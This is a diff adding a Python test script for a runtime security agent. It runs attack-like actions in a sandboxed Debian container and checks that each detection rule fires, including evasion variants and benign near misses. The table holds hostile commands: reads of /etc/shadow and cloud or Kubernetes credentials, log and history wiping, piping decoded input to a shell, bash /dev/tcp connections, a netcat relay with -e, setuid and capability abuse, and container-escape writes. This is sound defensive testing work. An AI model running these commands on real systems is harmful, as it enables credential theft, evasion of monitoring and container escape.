@@ -1,0 +1,343 @@
+#!/usr/bin/env python3
+"""Attacks in a real container of Debian's packages, in full mode, by our own rules: of each behaviour a trigger, twins that evade rules
+that go by names or by one call, and near misses. docs/detection.md has the same table in words.
+
+One case after the other is done in one container; a case is over when the file that ends it has been seen. A trigger and a twin must
+raise their rule, and nothing else above notice but what `also` allows; a miss nothing above notice.
+"""
+import json
+import os
+import shutil
+import subprocess
+import sys
+import tempfile
+import time
+
+import agentlib
+import debianlib
+import taplib
+
+HERE = agentlib.HERE
+RULES = [os.path.join(HERE, "../../data/rules", name + ".yaml") for name in ("runtime", "files", "network", "privileges")]
+QUIET = {"Notice", "Informational", "Debug"}
+STARTING_SECONDS = 11  # of a container, in which some rules hold back
+NOBODY = "192.0.2.1"   # an address that leads nowhere
+
+tap = taplib.Tap(dict(os.environ))
+
+
+class Deeds:
+    """How things are done in the container: by a shell, by Python, by a program."""
+
+    def __init__(self, container):
+        self.c = container
+
+    def sh(self, script, **how):
+        return self.c.run("/bin/bash", "-c", script, **how)
+
+    def py(self, code, **how):
+        return self.c.run("/usr/bin/python3", "-B", "-c", "import sys; sys.path.insert(0, '/usr/lib/deed'); from deed import *\n" + code, **how)
+
+    def run(self, *command, **how):
+        return self.c.run(*command, **how)
+
+
+LOG = "Log file tampered with"
+HISTORY = "Shell history removed or redirected"
+CHANGED = "Program of the image changed"
+SECRET = "Secret of the system read by hand"
+LINK = "Link to a secret of the system"
+SEARCH = "Search for keys or credentials"
+CLOUD = "Credentials of a cloud read by hand"
+TOKEN = "Token of a service account read by hand"
+ENVIRON = "Environment of another process read"
+JOB = "Job or service added"
+SHELL = "Settings of a shell changed"
+KEY = "Key to log in added"
+USERS = "Users changed by hand"
+PRELOAD = "Dynamic linker told to load a library"
+SETUID = "Setuid bit set"
+CAPABLE = "Capabilities given to a file"
+HIDDEN = "Hidden name"
+OWN = "Program deletes its own file"
+MAPPED = "Dropped code mapped"
+DROPPED = "Dropped program executed"
+MEMORY = "Program executed from memory file system"
+SCRIPT = "Dropped file run by interpreter"
+STREAM = "Standard stream turned to a connection"
+PIPE = "Shell takes commands from a pipe"
+CONNECTS = "Shell connects to the network"
+NAMESPACE = "Namespace made or entered"
+MOUNT = "Mount in a container"
+ATTACHED = "Process attached to"
+ESCAPE = "Way out of the container written"
+DISK = "Disk of the host opened"
+TIME = "Time of a system file set by hand"
+RING = "Calls by a ring, by hand"
+KERNEL = "Program for the kernel loaded"
+THREAD = "Kernel thread by its title alone"
+DESTROYED = "Data destroyed"
+SOCKET = "Socket of a container engine"
+METADATA = "Metadata of the cloud asked by hand"
+MEMORY_WRITTEN = "Memory of another process written"
+
+# (row of the table, rule or None, what, how, what else may be raised above notice)
+CASES = (
+    (7, MAPPED, "a library in a memfd is loaded (dlopen of /proc/self/fd)",
+     lambda d: d.py("m = call('memfd_create', 'x', 0)\nos.write(m, open('/usr/lib/x86_64-linux-gnu/libz.so.1', 'rb').read())\n"
+                    "ctypes.CDLL('/proc/self/fd/%d' % m)"), ()),
+    (7, MAPPED, "twin: a memfd with the name that .NET gives its own, mapped by hand",
+     lambda d: d.py("m = call('memfd_create', 'doublemapper', 0)\nos.ftruncate(m, 4096)\nmmap.mmap(m, 4096, prot=mmap.PROT_READ | mmap.PROT_EXEC)"), ()),
+    (42, MAPPED, "twin: a dropped library, by LD_PRELOAD",
+     lambda d: d.sh("cp /usr/lib/x86_64-linux-gnu/libz.so.1 /opt/a.so; LD_PRELOAD=/opt/a.so /bin/true"), ()),
+    (9, MAPPED, "twin: a library in /dev/shm", lambda d: d.sh("cp /usr/lib/x86_64-linux-gnu/libz.so.1 /dev/shm/a.so; LD_PRELOAD=/dev/shm/a.so /bin/true"),
+     ("Library preloaded from a place that anybody can write to",)),
+    (7, None, "miss: a memfd that is only data", lambda d: d.py("m = call('memfd_create', 'x', 0)\nos.ftruncate(m, 4096)\nmmap.mmap(m, 4096)"), ()),
+    (7, None, "miss: a dropped file mapped to be read", lambda d: d.py("write('/opt/data', 'x' * 4096)\nmmap.mmap(os.open('/opt/data', 0), 4096, prot=1)"), ()),
+
+    (10, CHANGED, "a program of the image is overwritten", lambda d: d.sh("cat /bin/true > /usr/bin/tac"), ()),
+    (10, CHANGED, "twin: renamed over, from Python, through a link to the directory",
+     lambda d: d.py("os.symlink('/usr/bin', '/opt/b')\nwrite('/opt/n', 'x')\nos.rename('/opt/n', '/opt/b/rev')"), ()),
+    (10, CHANGED, "twin: a link is put in its place", lambda d: d.sh("ln -sf /opt/n /usr/bin/nl"), ()),
+    (10, None, "miss: a program is put where the operator puts his own", lambda d: d.sh("cp /bin/true /usr/local/bin/mine"), ()),
+
+    (12, PIPE, "a shell takes commands from a fifo", lambda d: d.sh("mkfifo /tmp/f; (echo true > /tmp/f) & sh < /tmp/f | cat; wait"), ()),
+    (31, PIPE, "what was decoded is piped into a shell", lambda d: d.sh("echo dHJ1ZQo= | base64 -d | sh"), ()),
+    (31, PIPE, "twin: into bash -s, by another name", lambda d: d.sh("ln -s /bin/bash /opt/q; echo true | /opt/q -s x"), ()),
+    (31, None, "miss: a pipe into a shell that has a command", lambda d: d.sh("echo x | sh -c 'cat >/dev/null'"), ()),
+    (13, STREAM, "Python turns its output to a socket", lambda d: d.py("s = socket.socket()\nos.dup2(s.fileno(), 1)"), ()),
+    (13, STREAM, "twin: dup3 of a UDP socket to the input", lambda d: d.py("s = socket.socket(type=socket.SOCK_DGRAM)\nos.dup2(s.fileno(), 0, False)"), ()),
+    (13, STREAM, "twin: close and dup", lambda d: d.py("s = socket.socket()\nos.close(0)\nlibc.dup(s.fileno())"), ()),
+    (13, None, "miss: a socket as another descriptor", lambda d: d.py("s = socket.socket()\nos.dup2(s.fileno(), 9)"), ()),
+    (30, CONNECTS, "bash opens a connection", lambda d: d.sh("exec 3<>/dev/tcp/%s/80" % NOBODY), ()),
+    (30, CONNECTS, "twin: a shell by another name, by UDP", lambda d: d.sh("ln -sf /bin/bash /opt/gbash; /opt/gbash -c 'echo >/dev/udp/%s/53'" % NOBODY), ()),
+    (9, None, "miss: bash looks at a port of its own container (a health check)", lambda d: d.sh("exec 3<>/dev/tcp/127.0.0.1/80"), ()),
+
+    (16, LOG, "a log is emptied", lambda d: d.sh(": > /var/log/auth.log"), ()),
+    (16, LOG, "twin: through a link to the directory, and ..", lambda d: d.sh("ln -sfn /var/log /opt/l; : > /opt/l/../log/auth.log"), ()),
+    (17, LOG, "rm", lambda d: d.sh("rm /var/log/a.log"), ()),
+    (17, LOG, "twin: unlinkat from Python, by a directory's descriptor",
+     lambda d: d.py("os.unlink('b.log', dir_fd=os.open('/opt/l', os.O_RDONLY))"), ()),
+    (17, LOG, "twin: mv", lambda d: d.sh("mv /var/log/c.log /opt/c"), ()),
+    (17, LOG, "twin: sed -i", lambda d: d.sh("sed -i /x/d /var/log/d.log"), ()),
+    (17, LOG, "twin: cp /dev/null", lambda d: d.sh("cp /dev/null /var/log/d.log"), ()),
+    (17, LOG, "twin: find -delete", lambda d: d.sh("find /var/log/old -delete"), ()),
+    (18, LOG, "truncate(2)", lambda d: d.py("call('truncate', '/var/log/e.log', 1)"), ()),
+    (18, LOG, "twin: ftruncate", lambda d: d.py("os.ftruncate(os.open('/var/log/e.log', os.O_WRONLY), 0)"), ()),
+    (18, LOG, "twin: a hole is punched", lambda d: d.py("call('fallocate', os.open('/var/log/f.log', os.O_RDWR), 3, 0, 4096)"), ()),
+    (18, LOG, "twin: written over in a mapping", lambda d: d.py("mmap.mmap(os.open('/var/log/f.log', os.O_RDWR), 16)[0:1] = b'x'"), ()),
+    (18, LOG, "twin: written over in place", lambda d: d.sh("dd if=/dev/zero of=/var/log/f.log bs=1 count=8 conv=notrunc"), (DESTROYED,)),
+    (18, LOG, "twin: a link to nowhere in its place", lambda d: d.sh("ln -sf /dev/null /var/log/g.log"), ()),
+    (18, LOG, "twin: exchanged for another (renameat2)",
+     lambda d: d.py("write('/opt/e', '')\ncall('renameat2', AT_FDCWD, '/opt/e', AT_FDCWD, '/var/log/f.log', 2)"), ()),
+    (18, LOG, "twin: by a program that is not in the image",
+     lambda d: d.sh("cp /usr/bin/truncate /opt/t; /opt/t -s 0 /var/log/f.log"), (DROPPED,)),
+    (18, None, "miss: a line is appended", lambda d: d.sh("echo x >> /var/log/f.log"), ()),
+    (18, None, "miss: a log is read", lambda d: d.sh("cat /var/log/dpkg.log > /dev/null"), ()),
+    (18, None, "miss: a file of the same name elsewhere", lambda d: d.sh(": > /opt/auth.log; rm /opt/auth.log"), ()),
+    (19, HISTORY, "a history is removed", lambda d: d.sh("touch /root/.bash_history; rm /root/.bash_history"), ()),
+    (19, HISTORY, "twin: a link to nowhere", lambda d: d.sh("ln -sf /dev/null /root/.bash_history"), ()),
+    (19, HISTORY, "twin: of another shell, emptied", lambda d: d.py("write('/root/.zsh_history', '')"), ()),
+    (19, None, "miss: a history is written on", lambda d: d.sh("echo ls >> /root/.ash_history"), ()),
+    (20, TIME, "a program gets an old time", lambda d: d.sh("touch -d 2001-01-01 /usr/bin/cksum"), ()),
+    (20, TIME, "twin: from Python, by a link", lambda d: d.py("os.symlink('/usr/bin/cksum', '/opt/ck')\nos.utime('/opt/ck', (1, 1))"), ()),
+    (20, None, "miss: a file gets the time of now", lambda d: d.sh("touch /usr/bin/cksum"), ()),
+    (21, DESTROYED, "a file is shredded", lambda d: d.sh("echo x > /opt/s; shred -u /opt/s"), ()),
+    (21, DESTROYED, "twin: by dd", lambda d: d.sh("dd if=/dev/zero of=/opt/s count=1"), ()),
+    (21, "Files removed in numbers", "six hundred files are removed", lambda d: d.py(
+        "os.mkdir('/opt/many')\nfor i in range(600): write('/opt/many/%d' % i, '')\nfor i in range(600): os.unlink('/opt/many/%d' % i)"), ()),
+    (21, None, "miss: dd makes a file of the input", lambda d: d.sh("echo x | dd of=/opt/s2"), ()),
+    (22, "Files encrypted in numbers", "files are replaced by ones with a suffix", lambda d: d.py(
+        "os.mkdir('/opt/docs')\nfor i in range(60):\n  write('/opt/docs/%d.txt' % i, 'x'); write('/opt/docs/%d.txt.enc' % i, 'y'); os.unlink('/opt/docs/%d.txt' % i)"), ()),
+    (22, "Files encrypted in numbers", "twin: renamed, by a shell and mv",
+     lambda d: d.sh("mkdir /opt/r; cd /opt/r; for i in $(seq 60); do echo > $i.doc; mv $i.doc $i.doc.locked; done"), ()),
+    (22, None, "miss: sixty files are compressed", lambda d: d.sh("mkdir /opt/z; cd /opt/z; for i in $(seq 60); do echo > $i.doc; done; gzip *.doc"), ()),
+
+    (23, SECRET, "shadow is read", lambda d: d.sh("cat /etc/shadow >/dev/null"), ()),
+    (23, SECRET, "twin: by a link", lambda d: d.sh("ln -s /etc /opt/etclink; head -1 /opt/etclink/shadow"), ()),
+    (23, SECRET, "twin: with .., by Python that calls itself systemd-logind",
+     lambda d: d.py("libc.prctl(15, b'systemd-logind', 0, 0, 0)\nopen('/opt/etclink/../etc/./shadow').read()"), ()),
+    (23, SECRET, "twin: openat2", lambda d: d.py("call('openat2', AT_FDCWD, '/etc/shadow', struct.pack('QQQ', 0, 0, 0), 24)"), ()),
+    (23, SECRET, "twin: a copied tool", lambda d: d.sh("cp /bin/cat /opt/sshd; /opt/sshd /etc/shadow >/dev/null"), (DROPPED,)),
+    (23, LINK, "twin: by a hard link", lambda d: d.py("os.link('/etc/shadow', '/etc/hard')\nopen('/etc/hard').read()"), ()),
+    (23, None, "miss: passwd, which everybody reads", lambda d: d.sh("cat /etc/passwd >/dev/null"), ()),
+    (23, None, "miss: what may read shadow does", lambda d: d.run("/usr/bin/chage", "-l", "root"), ()),
+    (24, SEARCH, "grep for keys", lambda d: d.sh("grep -r 'BEGIN RSA PRIVATE' /etc/ssl >/dev/null"), ()),
+    (24, SEARCH, "twin: find by name", lambda d: d.sh("find /root -name id_rsa"), ()),
+    (24, SECRET, "twin: a private key is read", lambda d: d.sh("mkdir -p /root/.ssh; touch /root/.ssh/id_rsa; cat /root/.ssh/id_rsa"), ()),
+    (24, None, "miss: find for something else", lambda d: d.sh("find /etc -name passwd >/dev/null"), ()),
+    (25, CLOUD, "credentials are read", lambda d: d.sh("cat /root/.aws/credentials"), ()),
+    (25, CLOUD, "twin: from Python, by a link", lambda d: d.py("os.symlink('/root/.aws', '/opt/aws')\nopen('/opt/aws/credentials').read()"), ()),
+    (25, None, "miss: what else lies there", lambda d: d.sh("cat /root/.aws/config"), ()),
+    (26, ENVIRON, "the environment of another process", lambda d: d.sh("cat /proc/1/environ >/dev/null"), ()),
+    (26, ENVIRON, "twin: by its root", lambda d: d.sh("cat /proc/self/root/proc/1/environ >/dev/null"), ()),
+    (26, None, "miss: its own", lambda d: d.sh("cat /proc/self/environ >/dev/null; cat /proc/1/cgroup >/dev/null"), ()),
+    (27, TOKEN, "a token of Kubernetes", lambda d: d.sh("cat /data/secrets/kubernetes.io/serviceaccount/token"), ()),
+    (27, TOKEN, "twin: by its link", lambda d: d.py("open('/data/secrets/kubernetes.io/serviceaccount/..data/token').read()"), ()),
+    (27, None, "miss: what stands beside it", lambda d: d.sh("cat /data/secrets/kubernetes.io/serviceaccount/namespace"), ()),
+    (28, METADATA, "the metadata service is asked", lambda d: d.sh("curl -s -m 1 http://169.254.169.254/latest"), ()),
+    (28, METADATA, "twin: from Python", lambda d: d.py("try_connect('169.254.169.254', 80)"), ()),
+    (28, None, "miss: the next address", lambda d: d.sh("curl -s -m 1 http://169.254.169.253/latest"), ()),
+    (29, "Download tool", "curl stores a file", lambda d: d.sh("curl -s -m 1 -O http://%s/x" % NOBODY), ()),
+    (30, "Download tool", "twin: wget of busybox; openssl", lambda d: d.sh("busybox wget -T 1 http://%s/x; openssl s_client -connect %s:443 </dev/null" % (NOBODY, NOBODY)), ()),
+    (32, "Ports scanned", "ports are scanned, by Python", lambda d: d.py("for port in range(1, 40): try_connect('%s', port)" % NOBODY), ()),
+    (32, "Ports scanned", "twin: by bash", lambda d: d.sh("for p in $(seq 100 130); do (exec 3<>/dev/tcp/127.0.0.1/$p) 2>/dev/null; done; true"), ()),
+    (32, "Network swept", "addresses are swept", lambda d: d.py("for host in range(1, 40): try_connect('198.51.100.%d' % host, 22)"), ()),
+    (32, None, "miss: a pool of connections to one port", lambda d: d.py("for i in range(60): try_connect('%s', 5432)" % NOBODY), ()),
+    (33, "Packet socket", "a packet socket", lambda d: d.py("socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3)"), ()),
+    (33, None, "miss: a UDP socket", lambda d: d.py("socket.socket(socket.AF_INET, socket.SOCK_DGRAM)"), ()),
+
+    (37, JOB, "a job of cron", lambda d: d.sh("echo x > /etc/cron.d/x"), ()),
+    (37, JOB, "twin: moved in", lambda d: d.sh("echo x > /opt/job; mv /opt/job /etc/cron.hourly/job"), ()),
+    (37, JOB, "twin: a unit of systemd, by a link to its directory",
+     lambda d: d.py("os.makedirs('/etc/systemd/system', exist_ok=True)\nos.symlink('/etc/systemd', '/opt/sd')\nwrite('/opt/sd/system/x.service', '')"), ()),
+    (37, None, "miss: jobs are listed", lambda d: d.sh("cat /etc/crontab >/dev/null; ls /etc/cron.d"), ()),
+    (38, SHELL, "bashrc", lambda d: d.sh("echo x >> /root/.bashrc"), ()),
+    (38, SHELL, "twin: sed -i", lambda d: d.sh("sed -i s/a/a/ /root/.bashrc"), ()),
+    (38, SHELL, "twin: profile.d through a link", lambda d: d.sh("ln -s /etc /opt/e2; echo x > /opt/e2/profile.d/x.sh"), ()),
+    (38, None, "miss: it is read", lambda d: d.sh(". /root/.bashrc"), ()),
+    (39, KEY, "a key is added", lambda d: d.sh("mkdir -p /root/.ssh; echo x >> /root/.ssh/authorized_keys"), ()),
+    (39, KEY, "twin: a file renamed to it", lambda d: d.py("write('/root/.ssh/n', 'x')\nos.rename('/root/.ssh/n', '/root/.ssh/authorized_keys')"), ()),
+    (39, USERS, "a user in passwd", lambda d: d.sh("echo 'x::0:0::/:/bin/sh' >> /etc/passwd"), ()),
+    (39, USERS, "twin: by the descriptor of its directory", lambda d: d.py("fd = os.open('passwd', os.O_WRONLY | os.O_APPEND, dir_fd=os.open('/etc', 0))"), ()),
+    (39, "User management", "useradd", lambda d: d.run("/usr/sbin/useradd", "-M", "somebody"), ()),
+    (40, SETUID, "chmod 4755", lambda d: d.sh("cp /bin/true /opt/su; chmod 4755 /opt/su"), ()),
+    (40, SETUID, "twin: fchmod", lambda d: d.py("os.fchmod(os.open('/opt/su', 0), 0o4755)"), ()),
+    (40, SETUID, "twin: fchmodat2", lambda d: d.py("call('fchmodat2', AT_FDCWD, '/opt/su', 0o4755, 0)"), ()),
+    (40, SETUID, "twin: made with it", lambda d: d.py("write('/opt/su2', 'x', mode=0o4755)"), ()),
+    (40, CAPABLE, "capabilities", lambda d: d.py("os.setxattr('/opt/su', 'security.capability', bytes.fromhex('0100000280000000000000000000000000000000'))"), ()),
+    (40, None, "miss: chmod 755", lambda d: d.sh("chmod 755 /opt/su; chmod 2755 /opt/docs"), ()),
+    (41, "Root rights taken", "a capability to become root is used",
+     lambda d: d.sh("cp /usr/bin/python3.11 /opt/py; setcap cap_setuid+ep /opt/py 2>/dev/null || "
+                    "python3 -c \"import os; os.setxattr('/opt/py', 'security.capability', bytes.fromhex('0100000280000000000000000000000000000000'))\"; "
+                    "setpriv --reuid 1000 --clear-groups /opt/py -c 'import os; os.setuid(0)'"), (CAPABLE, DROPPED)),
+    (41, None, "miss: rights are given up", lambda d: d.sh("setpriv --reuid 33 --clear-groups /bin/true"), ()),
+    (42, PRELOAD, "ld.so.preload", lambda d: d.sh("echo > /etc/ld.so.preload; rm /etc/ld.so.preload"), ()),
+    (42, PRELOAD, "twin: by a link", lambda d: d.py("os.symlink('/opt/none', '/etc/ld.so.preload')\nos.unlink('/etc/ld.so.preload')"), ()),
+    (42, "Library preloaded from a place that anybody can write to", "LD_PRELOAD", lambda d: d.sh("LD_PRELOAD=/tmp/none.so /bin/true"), ()),
+    (42, None, "miss: a library of the image is preloaded", lambda d: d.sh("LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libz.so.1 /bin/true"), ()),
+    (43, NAMESPACE, "unshare", lambda d: d.sh("unshare -Ur true"), ()),
+    (43, NAMESPACE, "twin: clone3", lambda d: d.py("r = call('clone3', struct.pack('11Q', 0x10000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0), 88)\n"
+                                                   "if r == 0: os._exit(0)"), ()),
+    (43, NAMESPACE, "twin: setns", lambda d: d.py("call('setns', os.open('/proc/1/ns/uts', 0), 0)"), ()),
+    (43, None, "miss: a child", lambda d: d.sh("(true); true & wait"), ()),
+    (44, ESCAPE, "core_pattern", lambda d: d.sh("echo x > /proc/sys/kernel/core_pattern"), ()),
+    (44, ESCAPE, "twin: sysrq, by a relative path", lambda d: d.sh("cd /proc; : > ./sysrq-trigger"), ()),
+    (44, ESCAPE, "twin: release_agent", lambda d: d.sh("mkdir -p /opt/cg; echo > /opt/cg/release_agent"), ()),
+    (44, None, "miss: it is read", lambda d: d.sh("cat /proc/sys/kernel/core_pattern"), ()),
+    (45, MOUNT, "mount", lambda d: d.sh("mount -t tmpfs none /mnt"), ()),
+    (45, MOUNT, "twin: fsopen", lambda d: d.py("call('fsopen', 'tmpfs', 0)"), ()),
+    (45, MOUNT, "twin: open_tree and move_mount", lambda d: d.py("call('move_mount', call('open_tree', AT_FDCWD, '/mnt', 1), '', AT_FDCWD, '/mnt', 4)"), ()),
+    (45, None, "miss: mounts are listed", lambda d: d.sh("cat /proc/mounts >/dev/null"), ()),
+    (46, SOCKET, "docker.sock", lambda d: d.py("try_unix('/data/docker.sock')"), ()),
+    (46, SOCKET, "twin: by a link with another name", lambda d: d.py("os.symlink('/data/docker.sock', '/opt/s.s')\ntry_unix('/opt/s.s')"), ()),
+    (46, SOCKET, "twin: by a relative path", lambda d: d.sh("cd /data; python3 -c \"import socket; socket.socket(socket.AF_UNIX).connect_ex('docker.sock')\""), ()),
+    (46, None, "miss: another socket", lambda d: d.py("try_unix('/run/mysqld.sock')"), ()),
+    (46, DISK, "the memory of the kernel", lambda d: d.sh("head -c 1 /proc/kcore"), ()),
+    (46, DISK, "twin: by another way", lambda d: d.sh("cd /sys/..; head -c 1 proc/./kcore"), ()),
+    (47, ATTACHED, "ptrace", lambda d: d.py("import subprocess\np = subprocess.Popen(['/bin/sleep', '9'])\ncall('ptrace', 16, p.pid, 0, 0)\np.kill()"), ()),
+    (47, ATTACHED, "twin: seize", lambda d: d.py("call('ptrace', 0x4206, 1, 0, 0)"), ()),
+    (47, ATTACHED, "twin: process_vm_writev", lambda d: d.py("call('process_vm_writev', 1, 0, 0, 0, 0, 0)"), ()),
+    (47, MEMORY_WRITTEN, "twin: /proc/PID/mem",
+     lambda d: d.py("import subprocess\np = subprocess.Popen(['/bin/sleep', '9'])\nos.open('/proc/%d/mem' % p.pid, os.O_RDWR)\np.kill()"), ()),
+    (47, None, "miss: its own memory; itself traced", lambda d: d.py("os.open('/proc/self/mem', os.O_RDWR)\ncall('ptrace', 0, 0, 0, 0)"), ()),
+    (48, KERNEL, "a BPF program", lambda d: d.py("call('bpf', 5, 0, 0)"), ()),
+    (48, KERNEL, "twin: a module", lambda d: d.py("call('init_module', '', 0, '')"), ()),
+    (48, "Call that exploits use", "perf, userfaultfd", lambda d: d.py("call('perf_event_open', 0, 0, -1, -1, 0)\ncall('userfaultfd', 0)"), ()),
+    (48, None, "miss: a map", lambda d: d.py("call('bpf', 0, 0, 0)"), ()),
+    (49, RING, "io_uring is set up", lambda d: d.py("b = ctypes.create_string_buffer(120)\nlibc.syscall(425, 4, b)"), ()),
+    (50, OWN, "a program removes itself", lambda d: d.sh("cp /usr/bin/python3.11 /opt/gone; /opt/gone -c \"import os; os.unlink('/opt/gone')\""), (DROPPED,)),
+    (50, THREAD, "a title of the kernel's", lambda d: d.sh("exec -a '[kworker/0:1]' /bin/true"), ()),
+    (50, None, "miss: a login shell's title", lambda d: d.sh("exec -a -bash /bin/true"), ()),
+    (51, HIDDEN, "a directory of three dots", lambda d: d.sh("mkdir -p /tmp/..."), ()),
+    (51, HIDDEN, "twin: a dot and a blank", lambda d: d.py("write('/tmp/. ', 'x')"), ()),
+    (51, None, "miss: a file with a dot", lambda d: d.sh("mkdir /tmp/.cache; touch /tmp/.cache/..x"), ()),
+    (52, "32-bit call", "a 32-bit call", lambda d: d.run("/usr/bin/actor", "do", "open32", "/etc/hostname"), ()),
+    (53, "Owner of a system file changed", "chown of a program", lambda d: d.sh("chown 33 /usr/bin/cksum"), ()),
+    (53, None, "miss: chown of what is one's own", lambda d: d.sh("chown 33 /opt/docs"), ()),
+    (54, "Network tool runs a program", "a relay with a shell", lambda d: d.sh("timeout 1 busybox nc -l -p 4444 -e /bin/true"), ()),
+    (54, "Network tool", "twin: a relay alone", lambda d: d.sh("timeout 1 busybox nc -w 1 %s 1" % NOBODY), ()),
+)
+
+
+def make_container(work, archive):
+    container = debianlib.Container(work, "attacks")
+    container.unpack(archive)
+    with open(os.path.join(HERE, "../tools/deed.py")) as file:
+        container.add("usr/lib/deed/deed.py", file.read())
+    actor = os.path.join(work, "actor")
+    built = subprocess.run(["cc", "-D_GNU_SOURCE", "-O1", "-static", "-o", actor, os.path.join(HERE, "../tools/actor.c")], capture_output=True)
+    if built.returncode == 0:
+        with open(actor, "rb") as file:
+            container.add("usr/bin/actor", file.read(), 0o755)
+    for name in ("auth", "a", "b", "c", "d", "e", "g", "dpkg", "old/x"):
+        container.add("var/log/%s.log" % name, "one\nx\n")
+    container.add("var/log/f.log", "x" * 8192)
+    container.add("root/.aws/credentials", "none\n")
+    container.add("root/.aws/config", "none\n")
+    for name in ("token", "namespace", "..data/token"):
+        path = os.path.join(container.volume, "secrets/kubernetes.io/serviceaccount", name)
+        os.makedirs(os.path.dirname(path), exist_ok=True)
+        with open(path, "w") as file:
+            file.write("none\n")
+    with open(os.path.join(container.volume, "docker.sock"), "w"):
+        pass
+    return container
+
+
+def check(container, agent, only):
+    deeds, watch = Deeds(container), debianlib.Watch(agent, container)
+    watch.told()
+    for row, rule, what, act, also in CASES:
+        if only and str(row) not in only:
+            continue
+        code, words = act(deeds)
+        alerts = watch.told()
+        name = "%d %s: %s" % (row, rule or "silent", what)
+        if alerts is None:
+            tap.ok(False, name, "its end was not told of in time\n" + agent.log())
+            continue
+        loud = {a["rule"] for a in alerts if a["priority"] not in QUIET}
+        all_told = {a["rule"] for a in alerts}
+        good = (rule in all_told if rule else True) and loud <= ({rule} if rule else set()) | set(also)
+        tap.ok(good, name, "exit code %d: %s\ntold: %s" % (code, words[-300:], "\n".join(a["rule"] + ": " + a["output"] for a in alerts)))
+
+
+def main():
+    agentlib.need_sensor("runc", "mount", "cc")
+    archive, reason = debianlib.root_archive()
+    if reason:
+        agentlib.skip_all(reason)
+    work = tempfile.mkdtemp()
+    with open(os.path.join(work, "end.yaml"), "w") as file:
+        file.write(debianlib.Watch.END)
+    container = make_container(work, archive)
+    agent = None
+    try:
+        reason = container.start()
+        if reason:
+            tap.skip("attacks in a container", reason)
+            return tap.end()
+        started = time.monotonic()
+        options = [o for path in RULES + [os.path.join(work, "end.yaml")] for o in ("-r", path)]
+        agent = agentlib.Agent(work, "attacks", "--mode", "full", "--least", "notice", *options)
+        tap.ok(agent.is_watching, "the agent starts in full mode with its own rules", agent.log())
+        if not agent.is_watching:
+            return tap.end()
+        time.sleep(max(0, started + STARTING_SECONDS - time.monotonic()))  # not for something to happen: for the container's age
+        check(container, agent, sys.argv[1:])
+        code = agent.end()
+        tap.ok(code == 0 and "0 records malformed" in agent.log(), "it ended", "%d\n%s" % (code, agent.log()))
+        agent = None
+    finally:
+        if agent:
+            agent.end()
+        container.end()
+        if os.environ.get("KEEP_ALERTS"):
+            shutil.copy(os.path.join(work, "attacks.jsonl"), os.environ["KEEP_ALERTS"])
+        shutil.rmtree(work, ignore_errors=True)
+    return tap.end()
+
+
+if __name__ == "__main__":
+    sys.exit(main())
